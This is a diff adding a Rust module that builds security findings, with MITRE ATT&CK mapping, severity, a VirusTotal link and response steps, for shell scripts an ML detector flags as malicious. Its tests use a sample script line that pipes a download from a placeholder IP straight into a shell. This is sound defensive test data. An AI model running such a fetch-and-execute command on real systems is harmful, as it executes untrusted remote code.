@@ -1,0 +1,343 @@
+//! Fills the finding. What each field holds is documented with the public finding type; every field that is
+//! known is filled, and none is guessed.
+
+use std::collections::BTreeMap;
+
+use proto::{
+    scc::{
+        finding::{FindingClass, Severity, State},
+        mitre_attack::{Tactic, Technique},
+        File, Finding, MitreAttack, Process,
+    },
+    well_known::{value::Kind, ListValue, Timestamp, Value},
+};
+
+use super::{id::finding_id, indicator};
+use crate::{
+    identity::{Node, ProcessFacts},
+    script::{Capture, Origin},
+    verdict::{technique::LABELS, Verdict},
+};
+
+/// Category of the finding, as the public documentation names it.
+const CATEGORY: &str = "Malicious Script Executed";
+/// Version of ATT&CK that the names come from.
+const ATTACK_VERSION: &str = "17";
+
+/// Everything a finding is made of.
+pub struct Evidence<'a> {
+    /// What ran.
+    pub capture: &'a Capture,
+    /// What was found about it.
+    pub verdict: &'a Verdict,
+    /// The machine.
+    pub node: &'a Node,
+    /// The parent process, if it was still there.
+    pub parent: Option<&'a ProcessFacts>,
+    /// Unix time now, ns.
+    pub now_unix_ns: u64,
+}
+
+/// Makes the finding.
+pub fn build(evidence: &Evidence<'_>) -> Finding {
+    let Evidence { capture, verdict, node, parent, now_unix_ns } = evidence;
+    let sha256 = verdict.hash.to_string();
+    let script = script_file(capture, &sha256);
+    let binary_path = text(&capture.interpreter.path);
+    let binary = File {
+        path: binary_path.clone(),
+        size: signed(capture.interpreter.size),
+        hashed_size: capture.interpreter.sha256.as_ref().map_or(0, |_| signed(capture.interpreter.size)),
+        sha256: capture.interpreter.sha256.clone().unwrap_or_default(),
+        partially_hashed: false,
+        contents: String::new(),
+    };
+    let args: Vec<String> = capture.args.iter().map(|arg| text(arg)).collect();
+    let process = Process {
+        name: process_name(capture),
+        binary: Some(binary),
+        script: Some(script),
+        args: args.clone(),
+        arguments_truncated: capture.args_truncated,
+        pid: i64::from(capture.id.pid),
+        parent_pid: i64::from(capture.ppid),
+        user_id: i64::from(capture.uid),
+        ..Process::default()
+    };
+    let mut processes = vec![process];
+    processes.extend(parent.map(parent_process));
+
+    let parent_name = format!("projects/{}/sources/{}/locations/{}", node.project, node.source, node.location);
+    let virus_total = format!("https://www.virustotal.com/gui/file/{sha256}/detection");
+    Finding {
+        name: format!("{parent_name}/findings/{}", finding_id(&node.boot_id, &capture.id)),
+        parent: parent_name,
+        resource_name: node.resource_name.clone(),
+        state: State::Active.into(),
+        category: CATEGORY.to_owned(),
+        external_uri: virus_total.clone(),
+        source_properties: properties(evidence, &args, &binary_path, &virus_total),
+        event_time: Some(timestamp(capture.time_unix_ns)),
+        create_time: Some(timestamp(*now_unix_ns)),
+        severity: severity(verdict).into(),
+        finding_class: FindingClass::Threat.into(),
+        indicator: indicator::of(&capture.content),
+        mitre_attack: Some(mitre(verdict)),
+        processes,
+        parent_display_name: "scriptwatch".to_owned(),
+        description: describe(capture, verdict, node),
+        next_steps: next_steps(capture, node),
+        module_name: "SCRIPTWATCH_MALICIOUS_SCRIPT_EXECUTED".to_owned(),
+        ..Finding::default()
+    }
+}
+
+/// The script. A path is given only for scripts on disk; the hash is of exactly the bytes kept.
+fn script_file(capture: &Capture, sha256: &str) -> File {
+    let on_disk = matches!(capture.origin, Origin::File | Origin::Sourced | Origin::Stdin);
+    File {
+        path: capture.path.as_deref().filter(|_| on_disk).map(text).unwrap_or_default(),
+        size: signed(capture.size),
+        sha256: sha256.to_owned(),
+        hashed_size: signed(capture.content.len() as u64),
+        partially_hashed: capture.size > capture.content.len() as u64,
+        contents: text(&capture.content),
+    }
+}
+
+fn parent_process(parent: &ProcessFacts) -> Process {
+    Process {
+        name: parent.name.clone(),
+        binary: Some(File { path: text(&parent.exe), ..File::default() }),
+        args: parent.args.clone(),
+        arguments_truncated: parent.args_truncated,
+        pid: i64::from(parent.pid),
+        parent_pid: i64::from(parent.ppid),
+        user_id: i64::from(parent.uid),
+        ..Process::default()
+    }
+}
+
+/// A process that runs a script file bears the script's name, else its interpreter's.
+fn process_name(capture: &Capture) -> String {
+    let path = capture.path.as_deref().unwrap_or(&capture.interpreter.path);
+    text(path.rsplit(|b| *b == b'/').next().unwrap_or_default())
+}
+
+fn properties(
+    evidence: &Evidence<'_>,
+    args: &[String],
+    binary_path: &str,
+    virus_total: &str,
+) -> BTreeMap<String, Value> {
+    let Evidence { capture, verdict, node, .. } = evidence;
+    let string = |s: &str| Value { kind: Some(Kind::StringValue(s.to_owned())) };
+    let number = |n: f64| Value { kind: Some(Kind::NumberValue(n)) };
+    let boolean = |b: bool| Value { kind: Some(Kind::BoolValue(b)) };
+    let list = |values: Vec<Value>| Value { kind: Some(Kind::ListValue(ListValue { values })) };
+    let spans = verdict.spans.iter().map(|span| {
+        string(&format!(
+            "lines {}-{}, bytes {}-{}, weight {:.2}",
+            span.first_line, span.last_line, span.start, span.end, span.weight
+        ))
+    });
+    let created = timestamp(crate::identity::boot_unix_ns() + capture.start_ns);
+    let mut properties = BTreeMap::from([
+        ("Script_Origin", string(capture.origin.name())),
+        ("Script_SHA256", string(&verdict.hash.to_string())),
+        ("Verdict_Score", number(f64::from(verdict.score))),
+        ("Verdict_Techniques", list(verdict.technique_ids().into_iter().map(string).collect())),
+        ("Verdict_Spans", list(spans.collect())),
+        ("VirusTotal_Link", string(virus_total)),
+        ("VM_Instance_Name", string(&node.name)),
+        ("Pid", number(f64::from(capture.id.pid))),
+        ("Container_Pid", number(f64::from(capture.ns_pid))),
+        ("Parent_Pid", number(f64::from(capture.ppid))),
+        ("Process_Binary_Fullpath", string(binary_path)),
+        ("Process_Arguments", list(args.iter().map(|arg| string(arg)).collect())),
+        ("Process_Creation_Timestamp", string(&rfc3339(&created))),
+    ]);
+    if capture.flags.incomplete {
+        properties.insert("Script_Incomplete", boolean(true));
+    }
+    if capture.flags.mixed_with_data {
+        properties.insert("Script_Mixed_With_Data", boolean(true));
+    }
+    if std::str::from_utf8(&capture.content).is_err() {
+        // The hash is of the bytes as they ran; the contents show replacement characters.
+        properties.insert("Script_Not_UTF8", boolean(true));
+    }
+    properties.into_iter().map(|(key, value)| (key.to_owned(), value)).collect()
+}
+
+fn mitre(verdict: &Verdict) -> MitreAttack {
+    let labels = || verdict.techniques.iter().map(|i| &LABELS[*i]);
+    let mut tactics: Vec<Tactic> = Vec::new();
+    let mut techniques: Vec<Technique> = Vec::new();
+    // What the documentation of this finding always shows, then what the model recognised.
+    for tactic in [Tactic::CommandAndControl].into_iter().chain(labels().map(|l| l.tactic)) {
+        if !tactics.contains(&tactic) {
+            tactics.push(tactic);
+        }
+    }
+    for technique in [Technique::IngressToolTransfer].into_iter().chain(labels().flat_map(|l| l.techniques.iter().copied())) {
+        if !techniques.contains(&technique) {
+            techniques.push(technique);
+        }
+    }
+    MitreAttack {
+        primary_tactic: Tactic::Execution.into(),
+        primary_techniques: vec![Technique::CommandAndScriptingInterpreter.into(), Technique::UnixShell.into()],
+        additional_tactics: tactics.into_iter().map(Into::into).collect(),
+        additional_techniques: techniques.into_iter().map(Into::into).collect(),
+        version: ATTACK_VERSION.to_owned(),
+    }
+}
+
+fn severity(verdict: &Verdict) -> Severity {
+    if verdict.techniques.iter().any(|i| LABELS[*i].critical) { Severity::Critical } else { Severity::High }
+}
+
+fn describe(capture: &Capture, verdict: &Verdict, node: &Node) -> String {
+    let how = match capture.origin {
+        Origin::File => "from a file",
+        Origin::Command => "given as an argument (-c)",
+        Origin::Stdin => "from standard input",
+        Origin::Sourced => "sourced from a file",
+        Origin::Eval => "as an evaluated string",
+    };
+    let interpreter = text(&capture.interpreter.path);
+    let names: Vec<&str> = verdict.techniques.iter().map(|i| LABELS[*i].name).collect();
+    let shows =
+        if names.is_empty() { String::new() } else { format!(" It shows: {}.", names.join(", ")) };
+    let lines: Vec<String> = verdict
+        .spans
+        .iter()
+        .map(|s| if s.first_line == s.last_line { s.first_line.to_string() } else { format!("{}-{}", s.first_line, s.last_line) })
+        .collect();
+    let because = if lines.is_empty() { String::new() } else { format!(" Lines that carried the verdict: {}.", lines.join(", ")) };
+    format!(
+        "{interpreter} executed a script {how} of {} bytes on {}, which a machine learning model takes for malicious (score {:.3}).{shows}{because}",
+        capture.size, node.name, verdict.score
+    )
+}
+
+fn next_steps(capture: &Capture, node: &Node) -> String {
+    format!(
+        "1. Read the script and the lines named in Verdict_Spans. 2. Look the hash up at VirusTotal. 3. On node {}, \
+         look at process {} and its parent {}: who started them, and is that expected? 4. If the script is not \
+         yours, isolate the workload, rotate the credentials it could read, and look for other findings with the \
+         same hash.",
+        node.name, capture.id.pid, capture.ppid
+    )
+}
+
+/// Bytes as a Protobuf string: U+FFFD where they are not UTF-8.
+fn text(bytes: &[u8]) -> String {
+    String::from_utf8_lossy(bytes).into_owned()
+}
+
+fn signed(n: u64) -> i64 {
+    i64::try_from(n).unwrap_or(i64::MAX)
+}
+
+fn timestamp(unix_ns: u64) -> Timestamp {
+    Timestamp { seconds: (unix_ns / 1_000_000_000) as i64, nanos: (unix_ns % 1_000_000_000) as i32 }
+}
+
+fn rfc3339(at: &Timestamp) -> String {
+    // Protobuf's JSON mapping is RFC 3339.
+    serde_json::to_value(at).ok().and_then(|v| v.as_str().map(str::to_owned)).unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{
+        probe::classify::ShellKind,
+        script::{Interpreter, ScriptFlags, ScriptId},
+        verdict::ScriptHash,
+    };
+
+    fn finding(change: impl FnOnce(&mut Capture)) -> Finding {
+        let mut capture = Capture {
+            id: ScriptId { pid: 10, exec_ns: 20, ordinal: 0 },
+            origin: Origin::File,
+            content: b"curl http://192.0.2.1/x | sh\n".to_vec(),
+            size: 29,
+            flags: ScriptFlags::default(),
+            path: Some(b"/tmp/x.sh".to_vec()),
+            interpreter: Interpreter {
+                kind: ShellKind::Bash,
+                path: b"/bin/bash".to_vec(),
+                size: 5,
+                sha256: Some("ab".to_owned()),
+            },
+            args: vec![b"/bin/bash".to_vec(), b"/tmp/x.sh".to_vec()],
+            args_truncated: false,
+            ns_pid: 1,
+            ppid: 9,
+            uid: 0,
+            gid: 0,
+            cgroup: 1,
+            start_ns: 1,
+            time_unix_ns: 1_700_000_000_000_000_001,
+        };
+        change(&mut capture);
+        let verdict = Verdict {
+            hash: ScriptHash::of(&capture.content),
+            score: 0.9,
+            malicious: true,
+            techniques: vec![4],
+            spans: vec![],
+        };
+        let node = Node {
+            name: "n".to_owned(),
+            boot_id: "b".to_owned(),
+            project: "p".to_owned(),
+            source: "s".to_owned(),
+            location: "global".to_owned(),
+            resource_name: "//r".to_owned(),
+        };
+        build(&Evidence { capture: &capture, verdict: &verdict, node: &node, parent: None, now_unix_ns: 5 })
+    }
+
+    fn script(finding: &Finding) -> File {
+        finding.processes[0].script.clone().unwrap()
+    }
+
+    #[test]
+    fn the_hash_is_of_the_contents_and_sizes_agree() {
+        let whole = script(&finding(|_| {}));
+        assert_eq!(whole.sha256, ScriptHash::of(whole.contents.as_bytes()).to_string());
+        assert_eq!((whole.size, whole.hashed_size, whole.partially_hashed), (29, 29, false));
+        let cut = script(&finding(|c| c.size = 2_000_000));
+        assert_eq!((cut.size, cut.hashed_size, cut.partially_hashed), (2_000_000, 29, true));
+    }
+
+    #[test]
+    fn literal_execution_has_no_path() {
+        assert_eq!(script(&finding(|_| {})).path, "/tmp/x.sh");
+        let literal = finding(|c| c.origin = Origin::Command);
+        assert_eq!(script(&literal).path, "");
+    }
+
+    #[test]
+    fn an_escape_is_critical_and_names_its_technique() {
+        let finding = finding(|_| {});
+        assert_eq!(finding.severity(), Severity::Critical);
+        let attack = finding.mitre_attack.unwrap();
+        assert!(attack.additional_techniques.contains(&i32::from(Technique::EscapeToHost)));
+        assert_eq!(attack.primary_techniques, [6, 7]);
+    }
+
+    #[test]
+    fn names_follow_the_documented_form() {
+        let finding = finding(|_| {});
+        let (parent, id) = finding.name.rsplit_once("/findings/").unwrap();
+        assert_eq!(parent, "projects/p/sources/s/locations/global");
+        assert!((1..=32).contains(&id.len()) && id.bytes().all(|b| b.is_ascii_alphanumeric()));
+        assert!(finding.source_properties.keys().all(|k| k.as_bytes()[0].is_ascii_alphabetic()
+            && k.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')));
+    }
+}
